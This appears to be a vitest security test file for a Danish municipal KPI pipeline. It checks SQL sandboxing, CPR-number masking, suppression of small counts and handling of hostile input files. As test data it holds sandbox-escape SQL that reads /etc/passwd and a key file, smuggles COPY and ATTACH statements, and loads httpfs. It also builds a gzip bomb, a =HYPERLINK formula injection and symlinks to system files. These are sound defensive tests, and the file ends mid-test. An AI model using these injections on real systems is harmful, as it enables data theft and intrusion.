/**
 * The attacks of docs/security.md, each tried as an attacker would and its outcome asserted: SQL in the
 * configuration that reaches for files, the key or per-person rows; CPR numbers in free text, headers
 * and names in every spelling; subtraction across two and three breakdown dimensions; hostile files
 * (a gzip bomb, a 5 MB row, CR-only lines, formulas, links and FIFOs); modes under a loose umask;
 * signals; leftovers of a killed check.
 */
import { execFileSync, spawn } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ChildOutOfMemory, runChild } from '../pipelines/core/child.ts';
import { Db } from '../pipelines/duckdb.ts';
import { suppressedPoints } from '../pipelines/kpis/disclosure.ts';
import { type EvaluatedKpi, evaluateRows, type KpiRow } from '../pipelines/kpis/evaluate.ts';
import { toPublicEntry } from '../pipelines/kpis/publicEntry.ts';
import { removeStaleWork } from '../pipelines/run/leftovers.ts';
import { openSandbox } from '../pipelines/sandbox.ts';
import type { KpiEntry, KpisJson, Manifest } from '../schemas/outputs.ts';
import { scanFiles } from './cpr-scan.ts';
import { cli, snapshot, spawnRun, TEST_KEY, tempDir, testKpi, walk } from './helpers.ts';

const EXAMPLES = join(import.meta.dirname, 'fixtures', 'examples-inbox');
const AS_OF = '2025-03-01';

/** A copy of the example inbox to attack. */
async function exampleInbox(): Promise<string> {
  const inbox = join(await tempDir('kpi-attack-'), 'inbox');
  cpSync(EXAMPLES, inbox, { recursive: true });
  return inbox;
}

function write(path: string, content: string | Buffer): void {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
}

/** A configuration file with one initiative (or other fields), in a folder of its own. */
async function configWith(fields: Record<string, unknown>): Promise<{ file: string; dir: string }> {
  const dir = await tempDir('kpi-cfg-');
  const file = join(dir, 'kpi.config.json');
  writeFileSync(file, JSON.stringify({ municipality: { code: '360', name: 'Lolland Kommune' }, ...fields }));
  return { file, dir };
}

const initiative = (sql: string, over: Record<string, unknown> = {}) => ({
  initiatives: [
    {
      id: 'attack',
      title: 'Angreb',
      unit: 'count',
      grain: 'year',
      direction: 'increase',
      extracts: ['sel85'],
      sql,
      ...over,
    },
  ],
});

/** The columns an initiative returns, around what an attacker puts in `member`. */
const selectMember = (member: string, from: string) =>
  `SELECT '360' AS municipality, '2024' AS period, count(*) AS numerator, NULL::BIGINT AS denominator, true AS complete, 'd' AS dimension, ${member} AS member FROM ${from} GROUP BY ALL`;

describe('configuration SQL is sandboxed', () => {
  const escapes: [string, (inbox: string, dir: string) => string][] = [
    [
      'an inbox file through read_csv',
      (inbox) => selectMember('cpr', `read_csv('${inbox}/sel85/afgoerelser_2024.csv')`),
    ],
    [
      'the key file through read_text',
      (_i, dir) => selectMember('content', `read_text('${join(dir, 'key')}')`),
    ],
    ['a system file', () => selectMember('column0', "read_csv('/etc/passwd')")],
    [
      'a parenthesis that closes the statement and copies a file',
      (_i, dir) =>
        `SELECT '360' AS municipality, '2024' AS period, 1 AS numerator, NULL AS denominator, true AS complete) q; COPY (SELECT 1) TO '${join(dir, 'escaped.csv')}'; SELECT * FROM (SELECT 1`,
    ],
    ['the person keys in ingest', () => selectMember('person_key', 'ingest.persons')],
    [
      'the key pads through getvariable',
      () => selectMember("getvariable('pk_ipad')::VARCHAR", 'staging.sel85'),
    ],
    ['a second statement', () => `${selectMember('provider', 'staging.sel85')}; SELECT 1`],
    ['a COPY statement', (_i, dir) => `COPY (SELECT 1) TO '${join(dir, 'escaped.csv')}'`],
    ['another database', (_i, dir) => `ATTACH '${join(dir, 'x.duckdb')}' AS x`],
  ];

  it.each(escapes)(
    'refuses %s with exit 2 in check and run, naming the initiative, and writes nothing',
    async (_name, sql) => {
      const inbox = await exampleInbox();
      const { file, dir } = await configWith({});
      writeFileSync(join(dir, 'key'), TEST_KEY);
      writeFileSync(file, JSON.stringify({ ...initiative(sql(inbox, dir)) }));
      const out = join(dir, 'out');
      for (const command of ['check', 'run']) {
        const r = await cli([command, '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF]);
        expect(r.code, `${command}: ${r.stderr}`).toBe(2);
        expect(r.stderr).toContain('initiatives.0.sql (attack)');
        expect(r.stderr).toContain('docs/security.md');
        expect(r.stderr).not.toMatch(/\n\s+at /);
      }
      expect(existsSync(join(dir, 'escaped.csv'))).toBe(false);
      expect(existsSync(join(dir, 'x.duckdb'))).toBe(false);
      expect(existsSync(join(out, 'public'))).toBe(false);
    },
  );

  const checks: [string, string, string][] = [
    [
      'a subquery that reads a file',
      "(SELECT count(*) FROM read_text('/etc/passwd')) > 0",
      'underforespørgsel',
    ],
    ['the CPR column', 'cpr > 1000000000', 'CPR-kolonnen cpr'],
    ['the key pads', "getvariable('pk_ipad') IS NOT NULL", 'funktionen getvariable'],
    ['a comment that ends the expression', 'absent_lessons >= 0) OR (true --', 'ét udtryk'],
    ['the raw text of a column', "v_absent_lessons = '1'", 'kolonnen v_absent_lessons'],
  ];

  it.each(checks)('refuses an own check that reads %s, naming the check', async (_name, sql, says) => {
    const own = JSON.parse(
      readFileSync(join(import.meta.dirname, 'fixtures', 'own-extract', 'kpi.config.json'), 'utf8'),
    );
    const name = Object.keys(own.extracts)[0]!;
    own.extracts[name].columns.cpr = { type: 'cpr', required: true };
    own.extracts[name].checks = [{ sql, message: 'x' }];
    own.initiatives = [];
    const { file, dir } = await configWith(own);
    const r = await cli([
      'check',
      '--inbox',
      await exampleInbox(),
      '--config',
      file,
      '--out',
      join(dir, 'out'),
    ]);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(`extracts.${name}.checks.0.sql`);
    expect(r.stderr).toContain(says);
  });

  it('refuses a notebook block that copies a file, and publishes nothing', async () => {
    const inbox = await exampleInbox();
    const { file, dir } = await configWith({ notebooks: 'nb' });
    write(
      join(dir, 'nb', 'mit.md'),
      `---\ntitle: Mit\n---\n\n\`\`\`sql x show\nCOPY (SELECT 1) TO '${join(dir, 'escaped.csv')}'\n\`\`\`\n`,
    );
    const out = join(dir, 'out');
    const r = await cli(['run', '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('mit.md, blok 1');
    expect(existsSync(join(dir, 'escaped.csv'))).toBe(false);
    expect(existsSync(join(out, 'public'))).toBe(false);
  });

  it('the locked instance refuses every way out in @duckdb/node-api, and still answers its views', async () => {
    const dir = await tempDir('kpi-sbx-');
    const file = join(dir, 'w.duckdb');
    const db = await Db.open(file);
    await db.run('CREATE SCHEMA staging; CREATE VIEW staging.v AS SELECT 42 AS x; CHECKPOINT');
    db.close();
    const sandbox = await openSandbox(file);
    try {
      expect(await sandbox.all('SELECT x FROM staging.v')).toEqual([{ x: 42 }]);
      for (const sql of [
        "SELECT * FROM read_csv('/etc/passwd')",
        "SELECT * FROM read_text('/etc/passwd')",
        `COPY (SELECT 1) TO '${join(dir, 'out.csv')}'`,
        `ATTACH '${join(dir, 'other.duckdb')}' AS other`,
        'INSTALL httpfs',
        'LOAD httpfs',
        'SET enable_external_access = true',
        'SET lock_configuration = false',
        "SELECT * FROM glob('/etc/*')",
      ]) {
        await expect(sandbox.all(sql), sql).rejects.toThrow();
      }
    } finally {
      sandbox.close();
    }
    expect(readdirSync(dir)).toEqual(['w.duckdb']);
  });

  it('per-person rows through staging are stopped by the privacy gate: exit 1, the previous publication unchanged, no value named', async () => {
    const inbox = await exampleInbox();
    const { file, dir } = await configWith({});
    const out = join(dir, 'out');
    expect(
      (await cli(['run', '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF])).code,
    ).toBe(0);
    const before = snapshot(out);
    writeFileSync(
      file,
      JSON.stringify(
        initiative(selectMember("person_id::VARCHAR || '/' || birth_date::VARCHAR", 'staging.sel85')),
      ),
    );
    const r = await cli(['run', '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(1);
    const said = r.stderr.trim().split('\n').at(-1)!;
    expect(said).toMatch(
      /^Privatlivsporten standsede offentliggørelsen: public\/kpis.json \(KPI attack\) indeholder en fødselsdato fra lageret/,
    );
    expect(said).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    expect(snapshot(out)).toEqual(before);
  });
});

/** A CPR number in the four spellings a caseworker writes. */
const SPELLINGS = (cpr: string) => [
  `${cpr.slice(0, 6)}-${cpr.slice(6)}`,
  cpr,
  `${cpr.slice(0, 6)} ${cpr.slice(6)}`,
  `${cpr.slice(0, 2)}.${cpr.slice(2, 4)}.${cpr.slice(4, 6)}-${cpr.slice(6)}`,
];

describe('CPR numbers in free text, headers and names', () => {
  it('are masked before anything is stored: no output byte holds one in any spelling, decoded warehouse and Parquet included', async () => {
    const inbox = await exampleInbox();
    const cpr = '1104730000';
    const [dashed, plain, spaced, dotted] = SPELLINGS(cpr);
    write(
      join(inbox, 'sel85', 'noter.csv'),
      `cpr,afgoerelse_id,startdato,slutdato,timer_pr_uge,målgruppe,leverandør\n150394-1233,N-1,01-09-2023,,2,psykiatri,Notat om ${dashed} og ${spaced}\n150394-1233,N-2,01-09-2023,,2,psykiatri,${dotted} ringede\n150394-1233,N-3,01-09-2023,,2,psykiatri,ref ${plain}\n`,
    );
    write(
      join(inbox, 'tariffs', 'takst_note.csv'),
      `provider_id;provider_name;ownership;service;year;rate\nP900;Bosted (kontakt ${dashed});privat;§107;2024;1.000,00\nP900;Bosted (kontakt ${dashed});privat;§107;2025;2.000,00\n`,
    );
    // A header cell with a CPR, in a file with a short row, and in a file whose lines end in CR.
    write(join(inbox, 'cafe', `kort_${plain}.csv`), `date,channel,age_band,${dashed}\n2024-01-02,telefon\n`);
    write(join(inbox, 'cafe', 'mac.csv'), `date,channel,age_band,${spaced}\r2024-01-03,telefon,18-24,x\r`);
    const out = join(await tempDir('kpi-out-'), 'out');
    const r = await cli(['run', '--inbox', inbox, '--out', out, '--as-of', AS_OF]);
    expect([0, 3]).toContain(r.code);
    const leaks: string[] = [];
    const scan = (where: string, text: string) => {
      for (const s of SPELLINGS(cpr)) if (text.includes(s)) leaks.push(`${where}: ${s}`);
    };
    await scanFiles(out, scan);
    scan('stdout', r.stdout);
    scan('stderr', r.stderr);
    expect(leaks).toEqual([]);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as Manifest;
    const masked = Object.fromEntries(
      manifest.inputs.filter((i) => i.cprMasked).map((i) => [i.file, i.cprMasked]),
    );
    expect(masked).toEqual({
      'sel85/noter.csv': 3,
      'tariffs/takst_note.csv': 2,
      'cafe/kort_******-**00.csv': 2,
      'cafe/mac.csv': 1,
    });
    expect(manifest.warnings.filter((w) => w.code === 'cpr_masked').map((w) => w.file)).toEqual(
      Object.keys(masked),
    );
    const alerts = readFileSync(join(out, 'public', 'tariff_alerts.json'), 'utf8');
    expect(alerts).toContain('Bosted (kontakt ******-**00)');
    // The sites were among the files scanned: the public one names the café's files (the lineage) with
    // the CPR masked, the restricted one lists the night's files; neither holds the key.
    const lineage = readFileSync(join(out, 'public', 'site', 'kpi', 'cafe_inquiries.html'), 'utf8');
    expect(lineage).toContain('kort_******-**00.csv');
    expect(readFileSync(join(out, 'restricted', 'site', 'index.html'), 'utf8')).toContain(
      'kort_******-**00.csv',
    );
    for (const f of [...walk(join(out, 'public', 'site')), ...walk(join(out, 'restricted', 'site'))])
      expect(readFileSync(f).includes(TEST_KEY), f).toBe(false);
  });
});

/** A count KPI with breakdowns, from (dimension, member, count) cells and a total. */
function counted(total: number, cells: [string, string, number][]): EvaluatedKpi {
  const rows: KpiRow[] = [
    { municipality: '360', period: '2024', numerator: total, denominator: null, complete: true },
    ...cells.map(([dimension, member, n]) => ({
      municipality: '360',
      period: '2024',
      numerator: n,
      denominator: null,
      complete: true,
      dimension,
      member,
    })),
  ];
  const def = testKpi({ unit: 'count', target: { rule: 'none' }, baseline: undefined });
  return evaluateRows(def, rows, '2025-06-01', '360', true)[0]!;
}

/**
 * What a reader can recompute by subtraction: in each period and dimension, a single hidden cell when
 * the total is known (published, or the sum of a dimension published in full).
 */
function recoverable(entry: KpiEntry): string[] {
  const found: string[] = [];
  for (const period of new Set(entry.series.map((p) => p.period))) {
    const points = entry.series.filter((p) => p.period === period);
    const total = points.find((p) => !p.breakdown);
    const dims = new Map<string, typeof points>();
    for (const p of points.filter((x) => x.breakdown)) {
      const d = Object.keys(p.breakdown!)[0]!;
      dims.set(d, [...(dims.get(d) ?? []), p]);
    }
    const full = [...dims.values()].some((cells) => cells.every((c) => !c.suppressed));
    const known = (total !== undefined && !total.suppressed) || full;
    for (const [d, cells] of dims) {
      const hidden = cells.filter((c) => c.suppressed);
      if (known && hidden.length === 1)
        found.push(`${period} ${d}=${Object.values(hidden[0]!.breakdown!)[0]}`);
    }
  }
  return found;
}

const hiddenCells = (ev: EvaluatedKpi) =>
  [...suppressedPoints(ev, 5)]
    .map((p) => (p.breakdown ? Object.entries(p.breakdown)[0]!.join('=') : 'total'))
    .sort();

describe('disclosure control holds in every dimension', () => {
  it('two dimensions: §85 misbrug = 61 − 15 − 44 cannot be recomputed; its complement is the smallest of its own dimension', () => {
    const ev = counted(61, [
      ['målgruppe', 'psykiatri', 44],
      ['målgruppe', 'misbrug', 2],
      ['målgruppe', 'handicap', 15],
      ['leverandør', 'A', 30],
      ['leverandør', 'B', 20],
      ['leverandør', 'C', 11],
    ]);
    // The smallest cell of all is leverandør C (11); hiding it would leave misbrug = 61 − 15 − 44.
    expect(hiddenCells(ev)).toEqual(['målgruppe=handicap', 'målgruppe=misbrug']);
    expect(recoverable(toPublicEntry(ev, 5))).toEqual([]);
  });

  it('three dimensions: each dimension with a hidden cell gets its second from itself', () => {
    const ev = counted(100, [
      ['a', 'x', 3],
      ['a', 'y', 40],
      ['a', 'z', 57],
      ['b', 'p', 2],
      ['b', 'q', 98],
      ['c', 'u', 6],
      ['c', 'v', 94],
    ]);
    // b has no second cell to hide with p but q (98): it goes; c has nothing hidden and stays whole,
    // which keeps the total known.
    expect(hiddenCells(ev)).toEqual(['a=x', 'a=y', 'b=p', 'b=q']);
    expect(recoverable(toPublicEntry(ev, 5))).toEqual([]);
  });

  it('a dimension with a single member: the total goes, and with it one cell of every dimension published in full', () => {
    const ev = counted(30, [
      ['a', 'only', 30],
      ['b', 'x', 3],
      ['b', 'y', 27],
    ]);
    expect(recoverable(toPublicEntry(ev, 5))).toEqual([]);
    expect(hiddenCells(ev)).toContain('b=x');
  });

  it('no random table of persons in two or three dimensions can be undone by subtraction', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(3), fc.nat(4), fc.nat(2)), { minLength: 1, maxLength: 80 }),
        fc.boolean(),
        (persons, three) => {
          const cells: [string, string, number][] = [];
          const dims: [string, (p: [number, number, number]) => number][] = [
            ['a', (p) => p[0]],
            ['b', (p) => p[1]],
            ...(three
              ? [
                  ['c', (p: [number, number, number]) => p[2]] as [
                    string,
                    (p: [number, number, number]) => number,
                  ],
                ]
              : []),
          ];
          for (const [d, of] of dims) {
            const counts = new Map<number, number>();
            for (const p of persons) counts.set(of(p), (counts.get(of(p)) ?? 0) + 1);
            for (const [m, n] of counts) cells.push([d, `m${m}`, n]);
          }
          const entry = toPublicEntry(counted(persons.length, cells), 5);
          expect(recoverable(entry)).toEqual([]);
          for (const p of entry.series.filter((x) => x.suppressed))
            expect([p.value, p.status]).toEqual([null, null]);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a share behind 2 persons is suppressed with its status, and the KPI falls back to the latest point it may show', () => {
    const def = testKpi({ target: { rule: 'threshold', min: 0.5 }, baseline: undefined });
    const row = (period: string, numerator: number, denominator: number, persons: number): KpiRow => ({
      municipality: '360',
      period,
      numerator,
      denominator,
      persons,
      complete: true,
    });
    const ev = evaluateRows(
      def,
      [row('2023', 60, 100, 100), row('2024', 40, 80, 2)],
      '2025-06-01',
      '360',
      true,
    )[0]!;
    const e = toPublicEntry(ev, 5);
    expect(e.series.map((p) => [p.period, p.value, p.numerator, p.denominator, p.status])).toEqual([
      ['2023', 0.6, 60, 100, 'on_track'],
      ['2024', null, null, null, null],
    ]);
    expect(e.latest).toEqual({ period: '2023', value: 0.6, target: 0.5, status: 'on_track' });
    expect(e.status).toBe('on_track');
  });

  it('end to end: an initiative broken down by target group and provider publishes nothing a reader can subtract', async () => {
    const inbox = join(await tempDir('kpi-2d-'), 'inbox');
    const groups = [...Array(44).fill('psykiatri'), 'misbrug', 'misbrug', ...Array(15).fill('handicap')];
    const providers = [...Array(30).fill('A'), ...Array(20).fill('B'), ...Array(11).fill('C')];
    const lines = groups.map((g, i) => {
      const cpr = `${String((i % 28) + 1).padStart(2, '0')}0180-${String(1000 + i)}`;
      return `${cpr},D-${i},01-01-2024,,4,${g},${providers[i]}`;
    });
    write(
      join(inbox, 'sel85', 'afgoerelser.csv'),
      `cpr,afgoerelse_id,startdato,slutdato,timer_pr_uge,målgruppe,leverandør\n${lines.join('\n')}\n`,
    );
    const sql = `SELECT municipality, '2024' AS period, count(DISTINCT person_id) AS numerator, NULL::BIGINT AS denominator,
        true AS complete, count(DISTINCT person_id) AS persons, dimension, member
      FROM (SELECT *, 'målgruppe' AS dimension, target_group AS member FROM staging.sel85
            UNION ALL SELECT *, 'leverandør', provider FROM staging.sel85
            UNION ALL SELECT *, NULL, NULL FROM staging.sel85)
      GROUP BY ALL`;
    const { file, dir } = await configWith(initiative(sql));
    const out = join(dir, 'out');
    const r = await cli(['run', '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(0);
    const kpis = JSON.parse(readFileSync(join(out, 'public', 'kpis.json'), 'utf8')) as KpisJson;
    const entry = kpis.kpis.find((k) => k.id === 'attack')!;
    const shown = Object.fromEntries(
      entry.series
        .filter((p) => p.period === '2024')
        .map((p) => [JSON.stringify(p.breakdown ?? {}), p.value]),
    );
    expect(shown).toEqual({
      '{}': 61,
      '{"målgruppe":"psykiatri"}': 44,
      '{"målgruppe":"misbrug"}': null,
      '{"målgruppe":"handicap"}': null,
      '{"leverandør":"A"}': 30,
      '{"leverandør":"B"}': 20,
      '{"leverandør":"C"}': 11,
    });
    expect(recoverable(entry)).toEqual([]);
    // The CSV a BI tool reads holds the same gaps.
    const csv = readFileSync(join(out, 'public', 'kpis.csv'), 'utf8');
    // The gap is no number and no status: no value, numerator, denominator, persons, nor which side of a
    // target it lies.
    expect(csv).toMatch(/attack;Angreb;.*;målgruppe;misbrug;misbrug;;;;;;Skjult \(diskretion\);ja;/);
  });
});

describe('hostile files', () => {
  it('a gzip bomb is rejected, by its NUL bytes or by the inflate limit, and the rest of the night goes on', async () => {
    const inbox = await exampleInbox();
    write(join(inbox, 'employment', 'nul.csv.gz'), gzipSync(Buffer.alloc(64 * 1024 ** 2), { level: 9 }));
    const text = Buffer.concat([
      Buffer.from('CPRNR;Måned;Løntimer\n'),
      Buffer.alloc(64 * 1024 ** 2, '1;2024-01;0\n'),
    ]);
    write(join(inbox, 'employment', 'tekst.csv.gz'), gzipSync(text, { level: 9 }));
    const out = join(await tempDir('kpi-out-'), 'out');
    const r = await cli(['run', '--inbox', inbox, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(3);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as Manifest;
    const byFile = Object.fromEntries(manifest.inputs.map((i) => [i.file, i]));
    expect(byFile['employment/nul.csv.gz']).toMatchObject({ status: 'rejected', rowsLoaded: 0 });
    expect(byFile['employment/nul.csv.gz']!.message).toContain('binær');
    expect(byFile['employment/tekst.csv.gz']).toMatchObject({ status: 'rejected', rowsLoaded: 0 });
    expect(byFile['employment/tekst.csv.gz']!.message).toContain('limits.maxInflatedBytes');
    expect(byFile['sel85/afgoerelser_2024.csv']).toMatchObject({ status: 'loaded' });
  });

  it('a 5 MB row is counted and quarantined with its line, and a CR-only file loads', async () => {
    const inbox = await exampleInbox();
    const head = 'cpr,afgoerelse_id,startdato,slutdato,timer_pr_uge,målgruppe,leverandør';
    const row = (i: number, provider = 'Bo') =>
      `0101${70 + i}-1000,L-${i},01-01-2024,,2,psykiatri,${provider}`;
    write(
      join(inbox, 'sel85', 'lang.csv'),
      [head, row(1), row(2, 'x'.repeat(5 * 1024 ** 2)), row(3), row(4), ''].join('\n'),
    );
    write(join(inbox, 'sel85', 'mac.csv'), [head, row(5), row(6), ''].join('\r'));
    const out = join(await tempDir('kpi-out-'), 'out');
    const r = await cli(['run', '--inbox', inbox, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(0);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as Manifest;
    const byFile = Object.fromEntries(manifest.inputs.map((i) => [i.file, i]));
    expect(byFile['sel85/lang.csv']).toMatchObject({
      rowsRead: 4,
      rowsLoaded: 3,
      rowsRejected: 1,
      rowsSkipped: 0,
    });
    expect(byFile['sel85/mac.csv']).toMatchObject({ status: 'loaded', rowsRead: 2, rowsLoaded: 2 });
    const rejects = readFileSync(
      join(out, 'restricted', 'quarantine', 'sel85', 'lang.csv.rejects.csv'),
      'utf8',
    );
    expect(rejects).toContain(
      '3;"";line_too_long;linjen er længere end 1,0 MiB (limits.maxLineBytes) og er ikke læst;""',
    );
  });

  it('no CSV cell the engine writes starts with a formula character, and LibreOffice shows such a cell as text', async () => {
    const inbox = await exampleInbox();
    const formula = '=HYPERLINK("http://example.invalid/?x="&A1;"klik")';
    const occupancy = readFileSync(join(inbox, 'occupancy', 'belaegning_2024.csv'), 'utf8').trimEnd();
    write(
      join(inbox, 'occupancy', 'belaegning_2024.csv'),
      `${occupancy}\n"${formula.replace(/"/g, '""')}",2024-01,10,200\n"@SUM(1+1)",2024-13,10,200\n`,
    );
    const out = join(await tempDir('kpi-out-'), 'out');
    const r = await cli(['run', '--inbox', inbox, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(0);
    const csvs = walk(out).filter((f) => f.endsWith('.csv'));
    expect(csvs.some((f) => f.includes('quarantine'))).toBe(true);
    const bad: string[] = [];
    for (const f of csvs) {
      for (const line of readFileSync(f, 'utf8')
        .replace(/^\uFEFF/, '')
        .split(/\r?\n/)) {
        for (const cell of line.split(';').map((c) => c.replace(/^"|"$/g, '')))
          if (/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && !/^-[0-9][0-9.,]*$/.test(cell)))
            bad.push(`${f}: ${cell}`);
      }
    }
    expect(bad).toEqual([]);
    const kpisCsv = readFileSync(join(out, 'public', 'kpis.csv'), 'utf8');
    expect(kpisCsv).toContain("'=HYPERLINK");
    // LibreOffice opens the Danish CSV as Excel would: the cell is text, not a formula.
    const dir = await tempDir('kpi-lo-');
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${join(dir, 'profile')}`,
        '--headless',
        '--infilter=CSV:59,34,76,1',
        '--convert-to',
        'xlsx',
        '--outdir',
        dir,
        join(out, 'public', 'kpis.csv'),
      ],
      { stdio: 'pipe', timeout: 120_000 },
    );
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'kpis.xlsx'));
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
    const hyperlink = cells.filter((c) => String(c.text).includes('HYPERLINK'));
    expect(hyperlink.length).toBeGreaterThan(0);
    for (const c of hyperlink) expect(c.type, c.address).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it('links and FIFOs in the inbox are warned about by name and never read', async () => {
    const inbox = await exampleInbox();
    symlinkSync('/etc/passwd', join(inbox, 'sel85', 'link.csv'));
    symlinkSync(join(inbox, 'sel85'), join(inbox, 'tariffs_link'));
    execFileSync('mkfifo', [join(inbox, 'sel85', 'fifo.csv')]);
    const out = join(await tempDir('kpi-out-'), 'out');
    const r = await cli(['run', '--inbox', inbox, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(0);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as Manifest;
    const warned = manifest.warnings
      .filter((w) => w.code === 'not_regular_file')
      .map((w) => w.message.split(' ')[0]);
    expect(warned.sort()).toEqual(['sel85/fifo.csv', 'sel85/link.csv', 'tariffs_link']);
    expect(manifest.inputs.map((i) => i.file)).not.toContain('sel85/link.csv');
  });

  it('a workbook the worker runs out of memory on is rejected, and the rest of the inbox is read', async () => {
    const inbox = await exampleInbox();
    const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: join(inbox, 'sel85', 'stor.xlsx') });
    const ws = wb.addWorksheet('Afgørelser');
    ws.addRow([
      'cpr',
      'afgoerelse_id',
      'startdato',
      'slutdato',
      'timer_pr_uge',
      'målgruppe',
      'leverandør',
    ]).commit();
    for (let i = 0; i < 100_000; i++)
      ws.addRow([
        `0101${50 + (i % 40)}-${1000 + (i % 8000)}`,
        `X-${i}`,
        '01-01-2024',
        '',
        2,
        'psykiatri',
        `Leverandør ${i % 50}`,
      ]).commit();
    await wb.commit();
    const { file, dir } = await configWith({ limits: { workerMemoryBytes: 350 * 1024 ** 2 } });
    const out = join(dir, 'out');
    const r = await cli(['run', '--inbox', inbox, '--config', file, '--out', out, '--as-of', AS_OF]);
    expect(r.code, r.stderr).toBe(3);
    const manifest = JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')) as Manifest;
    const byFile = Object.fromEntries(manifest.inputs.map((i) => [i.file, i]));
    expect(byFile['sel85/stor.xlsx']).toMatchObject({ status: 'rejected', rowsLoaded: 0 });
    expect(byFile['sel85/stor.xlsx']!.message).toContain('limits.workerMemoryBytes');
    expect(byFile['employment/eindkomst_2024-01_2024-03.csv']).toMatchObject({
      status: 'loaded',
      rowsLoaded: 5,
    });
    expect(manifest.inputs.filter((i) => i.file === 'sel85/afgoerelser_2024.csv')).toHaveLength(1);
    expect(manifest.heldBack.map((h) => h.id)).toContain('sel85_employment_rate');
  });

  it('an ingest worker past its memory bound is stopped', async () => {
    const dir = await tempDir('kpi-oom-');
    const hog = join(dir, 'hog.mts');
    writeFileSync(
      hog,
      `import { serveChild } from ${JSON.stringify(join(import.meta.dirname, '..', 'pipelines', 'core', 'child.ts'))};
serveChild(async () => { const keep: Buffer[] = []; for (;;) { keep.push(Buffer.alloc(16 * 1024 ** 2, 1)); await new Promise((r) => setTimeout(r, 20)); } });`,
    );
    await expect(
      runChild(new URL(`file://${hog}`), {}, undefined, { maxRssBytes: 256 * 1024 ** 2 }),
    ).rejects.toBeInstanceOf(ChildOutOfMemory);
  });
});

describe('files, modes, signals and leftovers', () => {
  it('modes hold under umask 002: public 0755/0644, restricted 0700/0600, the published warehouse read-only', async () => {
    const inbox = await exampleInbox();
    const out = join(await tempDir('kpi-out-'), 'out');
    const bin = join(import.meta.dirname, '..', 'bin', 'kpi.js');
    execFileSync(
      'sh',
      [
        '-c',
        `umask 002 && exec "${process.execPath}" "${bin}" run --inbox "${inbox}" --out "${out}" --as-of ${AS_OF}`,
      ],
      {
        env: { PATH: process.env.PATH, KPI_PSEUDONYM_KEY: TEST_KEY },
        stdio: 'pipe',
      },
    );
    const mode = (p: string) => (statSync(p).mode & 0o777).toString(8);
    const run = join(out, 'current');
    expect(mode(run)).toBe('755');
    expect(mode(join(run, 'manifest.json'))).toBe('644');
    for (const f of walk(join(out, 'public'))) expect(mode(f), f).toBe('644');
    for (const d of ['public', 'public/charts', 'public/reports']) expect(mode(join(run, d)), d).toBe('755');
    expect(mode(join(run, 'restricted'))).toBe('700');
    for (const f of walk(join(out, 'restricted')).filter((x) => !x.endsWith('warehouse.duckdb')))
      expect(mode(f), f).toBe('600');
    expect(mode(join(out, 'restricted', 'warehouse.duckdb'))).toBe('400');
  });

  let published: Promise<{ inbox: string; out: string }> | undefined;
  it.each([
    ['SIGTERM', 143],
    ['SIGINT', 130],
  ] as const)(
    '%s stops the run: exit %i, one line, the lock released, the previous publication unchanged',
    async (signal, code) => {
      // One publication for both signals, each on its own copy (its runs' links are relative).
      published ??= (async () => {
        const inbox = await exampleInbox();
        const out = join(await tempDir('kpi-out-'), 'out');
        expect((await cli(['run', '--inbox', inbox, '--out', out, '--as-of', '2025-03-01'])).code).toBe(0);
        return { inbox, out };
      })();
      const { inbox, out: first } = await published;
      const out = join(await tempDir('kpi-out-'), 'out');
      cpSync(first, out, { recursive: true, verbatimSymlinks: true });
      const before = snapshot(out);
      const r = spawnRun(inbox, out, 'kpis');
      await r.paused;
      r.child.kill(signal);
      expect(await r.done).toBe(code);
      const lines = r
        .stderr()
        .split('\n')
        .filter((l) => l && !l.startsWith('{'));
      expect(lines).toEqual([
        `Stoppet af ${signal}: intet nyt er offentliggjort, den forrige offentliggørelse gælder stadig, og låsen er frigivet.`,
      ]);
      expect(readdirSync(out).filter((f) => f.includes('lock'))).toEqual([]);
      expect(readdirSync(join(out, '.runs')).filter((f) => f.startsWith('.staging'))).toEqual([]);
      expect(snapshot(out)).toEqual(before);
      expect((await cli(['run', '--inbox', inbox, '--out', out, '--as-of', '2025-03-01'])).code).toBe(0);
    },
  );

  it('a check killed with kill -9 leaves a work folder the next check removes once it is a day old', async () => {
    const root = await tempDir('kpi-left-');
    const old = join(root, 'kpi-check-old');
    const young = join(root, 'kpi-check-young');
    for (const d of [old, young]) write(join(d, 'handover', 'employment', '1.parquet'), 'x');
    const twoDaysAgo = new Date(Date.now() - 2 * 24 * 3600 * 1000);
